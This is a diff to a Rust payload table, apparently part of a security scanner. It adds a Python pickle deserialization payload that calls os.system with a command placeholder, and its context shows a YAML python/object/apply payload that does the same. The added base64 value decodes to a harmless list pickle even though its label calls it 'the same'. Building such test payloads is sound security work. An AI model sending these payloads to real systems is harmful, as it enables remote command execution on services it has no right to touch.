@@ -26,6 +26,15 @@ pub(super) const PAYLOADS: &[Payload] = &[
         "pickle calls whatever it names; protocol 0 is plain ASCII and every version reads it",
     ),
     object(
+        "pickle-bytes",
+        "cos\nsystem\n(S'{C}'\ntR.",
+        Effect::Command,
+        // `(lp0\nS'a'\na.`
+        "KGxwMApTJ2EnCmEu",
+        "the same in base64, as pickles travel in cookies, headers and queries",
+    )
+    .formed(Form::Bytes),
+    object(
         "yaml-python-apply",
         "!!python/object/apply:os.system ['{C}']",
         Effect::Command,
